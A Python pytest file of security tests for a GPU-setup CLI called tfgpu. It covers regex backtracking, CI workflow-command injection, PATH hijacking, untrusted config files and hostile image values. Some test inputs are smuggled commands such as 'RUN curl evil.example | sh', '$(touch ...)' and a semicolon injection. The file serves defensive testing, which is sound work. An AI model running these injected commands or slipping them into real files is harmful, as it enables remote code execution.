"""Issue 28 (safety, round four): hostile inputs and surroundings. `explain` on pathological lines (every
catalog pattern against hostile lines built from its own literals), `lint` on hostile numbers and nesting,
lone surrogates under a strict UTF-8 locale, PATH entries that name the current directory or a directory
other users can write, a config file others can write, and workflow commands reaching a CI log. Through
the command line: the `cli` fixture, or `python -m tfgpu` where the locale, PATH or the current directory
matter."""

from __future__ import annotations

import os
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests import REPO
from tests.security.helpers import M60, m60_facts, make_env, tfgpu, write_facts, write_script

try:  # the standard library's regex parser: where a pattern's literal runs come from
    from re import _constants as sre_constants  # type: ignore[attr-defined]
    from re import _parser as sre_parse  # type: ignore[attr-defined]
except ImportError:  # Python < 3.11
    import sre_constants  # type: ignore[no-redef]
    import sre_parse  # type: ignore[no-redef]

try:
    import tomllib
except ImportError:  # Python < 3.11
    import tomli as tomllib  # type: ignore[no-redef]

pytestmark = [pytest.mark.safety]

Cli = Callable[..., tuple[int, str, str]]
CATALOG = REPO / "compat" / "explain.toml"


@pytest.fixture(autouse=True)
def _home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TFGPU_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("TFGPU_CONFIG", str(tmp_path / "config.toml"))
    (tmp_path / "config.toml").write_text("")


def _env(tmp_path: Path, **extra: str) -> dict[str, str]:
    return {**os.environ, "TFGPU_HOME": str(tmp_path / "home"), "TFGPU_CONFIG": str(tmp_path / "config.toml"), **extra}


def _timed_explain(tmp_path: Path, line: str, limit: float = 10) -> float:
    """Seconds `python -m tfgpu explain --no-probe` takes on a log of one ``line`` (at most ``limit``: a
    pattern that would take minutes fails the test in bounded time)."""
    log = tmp_path / "hostile.log"
    log.write_text(line + "\n")
    start = time.monotonic()
    try:
        res = tfgpu("explain", "--no-probe", str(log), env=_env(tmp_path), timeout=limit)
    except Exception as exc:  # subprocess.TimeoutExpired
        pytest.fail(f"explain did not finish within {limit:g} s: {type(exc).__name__}")
    assert res.returncode in (0, 1), res.stderr
    return time.monotonic() - start


# --------------------------------------------------------------------------- explain: catalog patterns in linear time


def _catalog() -> list[dict[str, Any]]:
    with CATALOG.open("rb") as fh:
        return [e for e in tomllib.load(fh)["entries"] if "pattern" in e]


_CLASS_SAMPLE = {"CATEGORY_DIGIT": "7", "CATEGORY_SPACE": " ", "CATEGORY_WORD": "a", "CATEGORY_NOT_SPACE": "a",
                 "CATEGORY_NOT_DIGIT": "a", "CATEGORY_NOT_WORD": " "}


def _literal_runs(pattern: str) -> list[str]:
    """Every run of literal characters in a regex (at any depth), plus one character of each class."""
    c = sre_constants
    runs: list[str] = []

    def walk(items: Any) -> None:
        cur = ""
        for op, av in items:
            if op is c.LITERAL:
                cur += chr(av)
                continue
            if cur:
                runs.append(cur)
                cur = ""
            if op is c.SUBPATTERN:
                walk(av[-1])
            elif op in (c.MAX_REPEAT, c.MIN_REPEAT) or op is getattr(c, "POSSESSIVE_REPEAT", None):
                walk(av[2])
            elif op is c.BRANCH:
                for branch in av[1]:
                    walk(branch)
            elif op in (c.ASSERT, c.ASSERT_NOT):
                walk(av[1])
            elif op is c.IN:
                for o, a in av:
                    if o is c.LITERAL:
                        runs.append(chr(a))
                        break
                    if o is c.RANGE:
                        runs.append(chr(a[0]))
                        break
                    if o is c.CATEGORY:
                        runs.append(_CLASS_SAMPLE.get(str(a), "a"))
                        break
        if cur:
            runs.append(cur)

    walk(sre_parse.parse(pattern))
    return [r for r in dict.fromkeys(runs) if r]


def hostile_lines(entry: dict[str, Any], size: int) -> list[str]:
    """Lines of ``size`` characters built from the pattern's own literals: each literal repeated (alone or with
    a separator), all of them in turn, halves of its sample line repeated; each also followed by the longest
    literal (so a cheap "does the line contain it" filter lets it through)."""
    runs = _literal_runs(entry["pattern"])
    units = [r + sep for r in runs for sep in ("", " ", "/", ".", ":", "a", "7")]
    units += ["".join(runs) + " ", " ".join(runs) + " "]
    sample = str(entry.get("sample", ""))
    units += [sample[:cut] for cut in (len(sample) // 2, len(sample) - 1) if cut > 0]
    lines = [(u * (size // len(u) + 1))[:size] for u in units if u]
    longest = max(runs, key=len, default="")
    return lines + [line[: size - len(longest) - 1] + "\x01" + longest for line in lines]


def _worst(rx: re.Pattern[str], lines: list[str], budget: float) -> float:
    """The slowest search over ``lines`` (best of three per line); stops at the first over ``budget``."""
    worst = 0.0
    for line in lines:
        took = []
        for _ in range(3):
            start = time.perf_counter()
            rx.search(line)
            took.append(time.perf_counter() - start)
            if took[-1] <= budget:
                break
        worst = max(worst, min(took))
        if worst > budget:
            break
    return worst


#: Patterns that are not linear today (a 64 KB hostile line over 50 ms): the issue's one, two more cubic
#: ones, and thirteen quadratic ones (tests/security/ROUND4.md: R4-N1, R4-N2, R4-N3).
SUPERLINEAR = {
    "loader.static_tls_other": "issue 28: Medium, loader.static_tls_other is roughly cubic",
    "nccl.unhandled_system_error": "issue 28 round-4 new: nccl.unhandled_system_error is cubic",
    "jetson.libgomp_static_tls": "issue 28 round-4 new: jetson.libgomp_static_tls is cubic",
    **dict.fromkeys(["driver.not_running_on_host", "gpu.compute_capability_too_low", "oom.host_memory",
                     "info.gpu_device_created", "info.gpu_device_creating_v1", "gpu.min_multiprocessor_count",
                     "keras.keras3_file_format", "macos.metal_plugin_symbol", "info.pluggable_device_created",
                     "info.directml_device", "pip.unsupported_wheel", "tf.autograph_could_not_transform",
                     "cudnn.zero_sized_tensor_descriptor"], "issue 28 round-4 new: a quadratic catalog pattern"),
}


@pytest.mark.faults
@pytest.mark.parametrize("entry", [
    pytest.param(e, id=e["id"], marks=[pytest.mark.xfail(strict=True, reason=SUPERLINEAR[e["id"]])]
                 if e["id"] in SUPERLINEAR else []) for e in _catalog()])
def test_every_catalog_pattern_runs_in_linear_time_on_hostile_lines(entry: dict[str, Any]) -> None:
    """Issue 28 (What to build) and R4-N1..N3. A log is someone else's output (a user's paste, a CI artifact,
    a training job that prints what it reads). Each catalog pattern is run against 64 KB lines built from
    its own literals; a pattern that backtracks turns one such line into minutes of CPU (loader.static_tls_other:
    a 4 KB line took 31 s). Instead every pattern finishes each line within 50 ms. Sizes grow from 256 bytes
    and the test stops at the first over budget, so a cubic pattern fails in a second, not in hours."""
    rx = re.compile(entry["pattern"])
    for size in (256, 1024, 4096, 16384, 65536):
        took = _worst(rx, hostile_lines(entry, size), 0.05)
        assert took <= 0.05, f"{entry['id']}: {took * 1000:.0f} ms on a {size}-character line"


@pytest.mark.faults
@pytest.mark.parametrize(("line", "item"), [
    pytest.param("/a.so" * 800 + " : cannot allocate memory in static TLS block", "static_tls_other",
                 marks=pytest.mark.xfail(strict=True, reason="issue 28: Medium, loader.static_tls_other is roughly cubic")),
    pytest.param("unhandled system error " + "nccl" * 1000, "nccl",
                 marks=pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: nccl.unhandled_system_error is cubic")),
    pytest.param(": cannot allocate memory in static TLS block " + "libgompa" * 500, "libgomp",
                 marks=pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: jetson.libgomp_static_tls is cubic")),
], ids=lambda v: v if isinstance(v, str) and len(v) < 20 else None)
def test_explain_of_one_4kb_hostile_line_takes_no_time(tmp_path: Path, line: str, item: str) -> None:
    """Medium (static_tls_other), R4-N1 (nccl), R4-N2 (libgomp): the same through `tfgpu explain`. The attacker
    controls one 4 KB line of a log that contains the pattern's key phrase (so tfgpu's prefilter lets it
    through). Today explain spends 30 s to minutes on that line (2 KB: 1.5-4.7 s here). Instead the whole
    run (interpreter start included) takes under 2 s (the test gives up after 10 s)."""
    took = _timed_explain(tmp_path, line)
    assert took < 2.0, f"{item}: {took:.1f} s"


# --------------------------------------------------------------------------- explain and lint in CI logs


def test_new_explain_output_never_starts_a_line_with_a_workflow_command_from_the_log(cli: Cli, tmp_path: Path) -> None:
    """New (R4-N4). `tfgpu explain build.log` in a GitHub Actions step: the runner reads every stdout line that
    starts with `::` as a workflow command (::error::, ::add-mask::, ::stop-commands::). The attacker
    controls a log line; tfgpu quotes it in its finding and wraps text at the console width, so a `::error::`
    inside the line lands at the start of an output line (and `doctor --ci` escapes such text, explain does
    not). Instead no output line (leading spaces aside) starts with `::` whatever the line's length."""
    bad = []
    for n in range(0, 80, 5):
        log = tmp_path / f"build{n}.log"
        log.write_text("Check failed: " + "x" * n + " ::error::pwned-by-the-log\n")
        rc, out, err = cli("explain", "--no-probe", str(log))
        assert rc in (0, 1), err
        bad += [line for line in (out + err).splitlines() if line.lstrip().startswith("::")]
    assert bad == []


@pytest.mark.parametrize("command", ["fleet", "lint", "explain"])
@pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: a newline in a file name starts a workflow command")
def test_new_a_newline_in_a_file_name_never_starts_a_workflow_command(cli: Cli, tmp_path: Path, command: str) -> None:
    """New (R4-N5). File names are data too: a node's report saved as `x\\n::error::...json` (fleet merge reads
    a directory of them), a Dockerfile or a log with a newline in its name. Today the name is printed raw in a
    finding or a "skipped" line, so the part after the newline starts a line with `::error::` (a workflow
    command in a GitHub Actions log). Instead names are shown escaped: no output line starts with `::`."""
    d = tmp_path / "in"
    d.mkdir()
    name = "x\n::error title=pwned::owned"
    if command == "fleet":
        (d / f"{name}.json").write_text("not json")
        rc, out, err = cli("fleet", "merge", str(d), "--json")  # skipped reports are listed on stderr
    elif command == "lint":
        (d / f"Dockerfile{name}").write_text("FROM nvidia/cuda:12.0.0-base\n")
        rc, out, err = cli("lint", str(d / f"Dockerfile{name}"), "--facts", str(M60))
    else:
        (d / f"log{name}").write_text("Check failed: x\n")
        rc, out, err = cli("explain", "--no-probe", str(d / f"log{name}"))
    assert rc in (0, 1, 2), err
    assert [line for line in (out + err).splitlines() if line.lstrip().startswith("::")] == []


# --------------------------------------------------------------------------- lint


BIG = "1" * 5000


@pytest.mark.parametrize(("name", "text"), [
    ("compose.yml", f"version: {BIG}\nservices:\n  tf:\n    image: tensorflow/tensorflow:2.15.0-gpu\n"),
    ("compose.yml", f"services:\n  tf:\n    image: tensorflow/tensorflow:2.{BIG}.0-gpu\n"),
    ("Dockerfile", f"FROM tensorflow/tensorflow:2.{BIG}.0-gpu\n"),
    ("Dockerfile", f"FROM nvidia/cuda:{BIG}.0-base-ubuntu22.04\n"),
    ("Dockerfile", f"FROM nvidia/cuda:12.{BIG}-base\n"),
    ("Dockerfile", "FROM nvidia/cuda:12.0.0-base\nRUN " + "[" * 100_000 + "\n"),
], ids=["yaml-number", "compose-tag", "tf-tag", "cuda-tag", "cuda-minor", "deep-run-exec-form"])
@pytest.mark.xfail(strict=True, reason="issue 28: Medium, lint exits 3 on huge numbers and deep RUN [")
def test_medium_lint_of_huge_numbers_and_deep_nesting_is_not_an_internal_error(
        cli: Cli, tmp_path: Path, name: str, text: str) -> None:
    """Medium. `tfgpu lint` reads someone's Dockerfile or compose file. Today a 5,000-digit YAML number
    (int() past Python's digit limit), a 5,000-digit version in an image tag (packaging's InvalidVersion
    from a regex that accepted it) and a `RUN [` nested 100,000 deep (json's RecursionError on the exec
    form) each end with "internal error", rc 3. Instead each is a finding or a one-line refusal: rc 0, 1 or 2."""
    path = tmp_path / name
    path.write_text(text)
    rc, _out, err = cli("lint", str(path), "--facts", str(M60))
    assert rc in (0, 1, 2), err
    assert "internal error" not in err


@pytest.mark.faults
@pytest.mark.xfail(strict=True, reason="issue 28: Low, a 1 MB Dockerfile of tensorflow>=2.0 specs lints for ~30-70 s")
def test_low_a_1mb_dockerfile_of_version_specs_lints_within_2_seconds(tmp_path: Path) -> None:
    """Low. A 1 MB Dockerfile whose RUN line lists `tensorflow>=2.0` 65,000 times. Today lint takes 28 s (70 s
    here); issue 16's bound for a huge instruction is 2 s. Instead it lints within the bound (3 s with the
    interpreter's start)."""
    path = tmp_path / "Dockerfile"
    path.write_text("FROM nvidia/cuda:12.0.0-base\nRUN pip install " + " ".join(["tensorflow>=2.0"] * 65_000) + "\n")
    start = time.monotonic()
    try:
        res = tfgpu("lint", str(path), "--facts", str(M60), env=_env(tmp_path), timeout=20)
    except Exception as exc:  # subprocess.TimeoutExpired
        pytest.fail(f"lint did not finish within 20 s: {type(exc).__name__}")
    assert res.returncode in (0, 1), res.stderr
    assert time.monotonic() - start < 3.0


@pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: a YAML timestamp that is no date is rc 3")
def test_new_lint_of_a_yaml_timestamp_that_is_no_date_is_a_one_line_error(cli: Cli, tmp_path: Path) -> None:
    """New (R4-N16). A compose file with `image: !!timestamp 2001-13-45` (a tag PyYAML's safe loader knows).
    Today the loader's ValueError ("month must be in 1..12") escapes: "internal error", rc 3. Instead it is
    refused like other bad YAML: rc 2, one line."""
    path = tmp_path / "compose.yml"
    path.write_text("services:\n  tf:\n    image: !!timestamp 2001-13-45\n")
    rc, _out, err = cli("lint", str(path), "--facts", str(M60))
    assert rc == 2, err
    assert "internal error" not in err


# --------------------------------------------------------------------------- lone surrogates under a UTF-8 locale


@pytest.mark.xfail(strict=True, reason="issue 28: Low, a lone surrogate in an interpreter path is rc 3 in plan sh")
def test_low_lone_surrogate_in_a_facts_interpreter_path_in_plan_format_sh(tmp_path: Path) -> None:
    """Low. A facts file (JSON allows "\\udcff") names its interpreter `/usr/bin/python\\udcff`. Today
    `plan --format sh` writes the path into the script: under a strict UTF-8 stdout (a UTF-8 locale) that is
    UnicodeEncodeError, "internal error", rc 3 (under C.UTF-8 a raw 0xff byte, an invalid script). Instead
    the value is escaped or refused: rc 0, 1 or 2."""
    facts = m60_facts()
    for it in facts["python"]["interpreters"]:
        it["path"] = "/usr/bin/python\udcff"
    path = write_facts(tmp_path, facts)
    res = tfgpu("plan", "--tf", "2.4.1", "--backend", "pip", "--force", "--format", "sh", "--facts", str(path),
                env=_env(tmp_path, PYTHONIOENCODING="utf-8"))
    assert res.returncode in (0, 1, 2), res.stderr
    assert "internal error" not in res.stderr


@pytest.mark.parametrize("argv", [
    ("doctor", "--ci"), ("doctor", "--json"), ("doctor",), ("plan", "--tf", "2.4.1", "--json"),
    ("doctor", "--tf", "2.4.1", "--backend", "docker", "--json"),
], ids=["doctor-ci", "doctor-json", "doctor-human", "plan-json", "doctor-container"])
def test_new_lone_surrogates_in_other_outputs_under_a_utf8_locale(tmp_path: Path, argv: tuple[str, ...]) -> None:
    """New (R4-N23), held today. The same lone surrogate in a GPU name through the doctor (human, --json, --ci
    with GitHub annotations), `plan --json` and the container route, with a strict UTF-8 stdout: each ends
    normally (rc 0 or 1), never "internal error"."""
    facts = m60_facts()
    facts["gpus"][0]["name"] = "Tesla \udcff M60"
    path = write_facts(tmp_path, facts)
    res = tfgpu(*argv, "--facts", str(path), env=_env(tmp_path, PYTHONIOENCODING="utf-8", GITHUB_ACTIONS="true"))
    assert res.returncode in (0, 1), res.stderr
    assert "internal error" not in res.stderr


# --------------------------------------------------------------------------- PATH entries


def _planted(where: Path, marks: Path, names: tuple[str, ...] = ("nvidia-smi", "ldconfig", "python3")) -> None:
    """Programs a probe may look for, each leaving a mark when it runs."""
    for name in names:
        write_script(where / name, f"touch '{marks}/{name}'\nexit 1\n")


@pytest.mark.parametrize("entry", [".", "relbin"], ids=["dot", "relative"])
@pytest.mark.xfail(strict=True, reason="issue 28: Low, '.' and relative PATH entries are trusted when probing")
def test_low_probes_ignore_dot_and_relative_path_entries(tmp_path: Path, entry: str) -> None:
    """Low. `tfgpu doctor` run in a directory the attacker filled (a cloned repository, a shared scratch
    directory) by a user whose PATH has `.` or a relative entry. Today the probes resolve nvidia-smi, ldconfig
    and python3 through it and run the attacker's programs. Instead probes ignore `.` and relative PATH
    entries: nothing planted runs."""
    work = tmp_path / "work"
    marks = tmp_path / "marks"
    marks.mkdir()
    _planted(work / ("" if entry == "." else entry), marks)
    res = tfgpu("doctor", "--json", cwd=work, env=_env(tmp_path, PATH=f"{entry}{os.pathsep}/usr/bin{os.pathsep}/bin"))
    assert res.returncode in (0, 1), res.stderr
    assert sorted(p.name for p in marks.iterdir()) == []


@pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: a PATH directory other users can write is trusted")
def test_new_probes_ignore_a_path_directory_other_users_can_write(tmp_path: Path) -> None:
    """New (R4-N19). A PATH entry that other users can write (mode 777, no sticky bit: a group tools
    directory, a careless /opt/bin): anyone can put an nvidia-smi there, and the doctor runs programs without
    being asked. tfgpu already refuses a knowledge-base cache or a registry in such a directory; today its
    probes run programs from one. Instead they skip it (as `.`): nothing planted runs."""
    shared = tmp_path / "shared-bin"
    marks = tmp_path / "marks"
    marks.mkdir()
    _planted(shared, marks, ("nvidia-smi", "ldconfig"))
    shared.chmod(0o777)
    res = tfgpu("doctor", "--json", env=_env(tmp_path, PATH=f"{shared}{os.pathsep}/usr/bin{os.pathsep}/bin"))
    assert res.returncode in (0, 1), res.stderr
    assert sorted(p.name for p in marks.iterdir()) == []


@pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: tfgpu run/shell activation runs sh from '.'")
def test_new_tfgpu_run_never_runs_sh_from_the_current_directory(tmp_path: Path) -> None:
    """New (R4-N6). `tfgpu run NAME -- CMD` activates the environment by running `sh -c '<activation>; env -0'`,
    with `sh` looked up on the caller's PATH. A user whose PATH has `.` runs `tfgpu run` in a directory the
    attacker filled (a cloned repository with an executable `sh`): today tfgpu runs that `sh` (not the
    user's command: tfgpu's own helper). Instead tfgpu's own helpers resolve from absolute PATH entries only
    (or /bin/sh): the planted `sh` never runs."""
    home = tmp_path / "home"
    make_env(tmp_path, home)
    work = tmp_path / "work"
    marks = tmp_path / "marks"
    marks.mkdir()
    write_script(work / "sh", f"touch '{marks}/sh'\nexec /bin/sh \"$@\"\n")
    res = tfgpu("run", "tf", "--", "/bin/echo", "hello", cwd=work,
                env=_env(tmp_path, PATH=f".{os.pathsep}/usr/bin{os.pathsep}/bin"))
    assert res.returncode == 0, res.stderr
    assert "hello" in res.stdout
    assert sorted(p.name for p in marks.iterdir()) == []


@pytest.mark.faults
@pytest.mark.parametrize("value", ["inf", "nan", "1e308", "-1"])
def test_new_odd_probe_timeouts_never_make_a_hung_probe_hang_the_doctor(tmp_path: Path, value: str) -> None:
    """New (R4-N25), held today. TFGPU_PROBE_TIMEOUT=inf (or nan, 1e308, -1) with an nvidia-smi that never
    answers: `--timeout inf` is refused, the variable falls back to the default 2 s, so the doctor still
    answers within seconds."""
    bindir = tmp_path / "bin"
    write_script(bindir / "nvidia-smi", "exec sleep 300\n")
    start = time.monotonic()
    res = tfgpu("doctor", "--json", timeout=60,
                env=_env(tmp_path, TFGPU_PROBE_TIMEOUT=value, PATH=f"{bindir}{os.pathsep}/usr/bin{os.pathsep}/bin"))
    assert res.returncode in (0, 1), res.stderr
    assert time.monotonic() - start < 15


# --------------------------------------------------------------------------- the config file


@pytest.mark.parametrize("what", ["file", "dir"])
@pytest.mark.xfail(strict=True, reason="issue 28 round-4 new: a config file other users can write is trusted")
def test_new_a_config_file_other_users_can_write_is_refused(cli: Cli, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch, what: str) -> None:
    """New (R4-N10). TFGPU_CONFIG names a config file in a shared place (a lab's common settings) that other
    users can write, or that sits in a directory they can write (no sticky bit). Its `channels` replace every
    recipe's: whoever can write it chooses the conda channel of everyone's environments (and its packages'
    activation scripts run at each `tfgpu run`). Today it is read and used. Instead, as with the registry
    and the knowledge-base cache, it is refused: rc 2, "not trusted"."""
    shared = tmp_path / "shared"
    shared.mkdir()
    config = shared / "config.toml"
    config.write_text('channels = ["https://evil.example/channel"]\n')
    if what == "file":
        config.chmod(0o666)
    else:
        shared.chmod(0o777)
    monkeypatch.setenv("TFGPU_CONFIG", str(config))
    rc, out, err = cli("plan", "--tf", "2.12.0", "--backend", "conda", "--facts", str(M60))
    assert rc == 2, out
    assert "evil.example" not in out
    assert "not trusted" in err


# --------------------------------------------------------------------------- held: generated files, CI summary, facts


@pytest.mark.parametrize("fmt", ["dockerfile", "apptainer"])
@pytest.mark.parametrize("image", ["tensorflow/tensorflow:2.15.0-gpu\nRUN curl evil.example | sh",
                                   "tensorflow/tensorflow:2.15.0-gpu$(touch /tmp/tfgpu-r4)",
                                   "tensorflow/tensorflow:2.15.0-gpu;touch /tmp/tfgpu-r4",
                                   "tensorflow/tensorflow:2.15.0-gpu\r\n%post\ntouch /tmp/tfgpu-r4"],
                         ids=["newline-RUN", "command-substitution", "semicolon", "apptainer-section"])
def test_new_hostile_image_values_never_reach_a_generated_dockerfile_or_definition(
        cli: Cli, fmt: str, image: str) -> None:
    """New (R4-N20), held today. `plan --format dockerfile|apptainer --image VALUE` where the value came from
    elsewhere (a wiki, a CI variable): a newline with a RUN line or an Apptainer `%post` section, shell
    syntax. Held: the image reference is checked first: rc 2, and nothing of it is written."""
    rc, out, err = cli("plan", "--tf", "2.15.0", "--backend", "docker", "--image", image, "--format", fmt,
                       "--facts", str(M60), "--force")
    assert rc == 2, out
    assert "not an image reference" in err
    assert "touch" not in out
    assert "curl" not in out


def test_new_newlines_and_html_comments_in_a_gpu_name_stay_in_their_summary_cell(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """New (R4-N22), held today. A GPU name (facts file, runner report) with newlines, a Markdown heading, an
    HTML comment opener (which would hide the rest of the job summary) and a link reference definition.
    Held: `doctor --ci` writes it into one table cell of $GITHUB_STEP_SUMMARY, escaped."""
    facts = m60_facts()
    facts["gpus"][0]["name"] = "Tesla M60 |\n\n# Owned\n\n<!-- hidden\n[x]: https://evil.example\n"
    path = write_facts(tmp_path, facts)
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    rc, _out, err = cli("doctor", "--ci", "--facts", str(path))
    assert rc in (0, 1), err
    lines = summary.read_text().splitlines()
    assert not any(line.startswith(("# Owned", "[x]:")) for line in lines)
    assert "<!--" not in summary.read_text()
    assert any("Owned" in line and line.startswith("|") for line in lines)  # shown, inside the table


@pytest.mark.parametrize("gpu", [
    {"index": True, "name": "x", "memory_mib": True, "compute_capability": "8.6"},
    {"index": 0, "name": "x", "memory_mib": 1e300, "compute_capability": "8.6"},
    {"index": 0, "name": "x", "memory_mib": -5, "compute_capability": "8.6"},
    {"index": 0, "name": "x", "compute_capability": "8.6", "mig": {"enabled": "yes"}},
], ids=["booleans", "1e300-MiB", "negative-MiB", "odd-mig"])
@pytest.mark.parametrize("argv", [("doctor", "--json"), ("plan", "--tf", "2.20"), ("doctor", "--ci")],
                         ids=["doctor-json", "plan", "doctor-ci"])
def test_new_odd_typed_values_in_a_facts_file_are_never_internal_errors(
        cli: Cli, tmp_path: Path, gpu: dict[str, Any], argv: tuple[str, ...]) -> None:
    """New (R4-N24), held today. Values of the right JSON type but no sense: booleans where numbers go (bool is
    an int to Python), 1e300 MiB, negative memory, a MIG section of the wrong shape. Held: judged or refused
    (rc 0, 1 or 2), never "internal error"."""
    facts = m60_facts()
    facts["gpus"] = [gpu]
    path = write_facts(tmp_path, facts)
    rc, _out, err = cli(*argv, "--facts", str(path))
    assert rc in (0, 1, 2), err
    assert "internal error" not in err


@pytest.mark.faults
def test_new_explain_from_a_pipe_with_an_endless_line_is_bounded(tmp_path: Path) -> None:
    """New (R4-N26), held today. `producer | tfgpu explain -` where the producer prints 300 MB without a
    newline. Held: explain keeps only the end of its input and finishes in seconds."""
    import subprocess
    import sys

    producer = subprocess.Popen([sys.executable, "-c", "import sys\nfor _ in range(300): sys.stdout.write('x' * 2**20)"],
                                stdout=subprocess.PIPE)
    start = time.monotonic()
    try:
        res = subprocess.run([sys.executable, "-m", "tfgpu", "explain", "--no-probe", "-"], stdin=producer.stdout,
                             capture_output=True, text=True, env=_env(tmp_path), timeout=60, check=False)
    finally:
        assert producer.stdout is not None
        producer.stdout.close()
        producer.wait(timeout=60)
    assert res.returncode in (0, 1), res.stderr
    assert time.monotonic() - start < 20
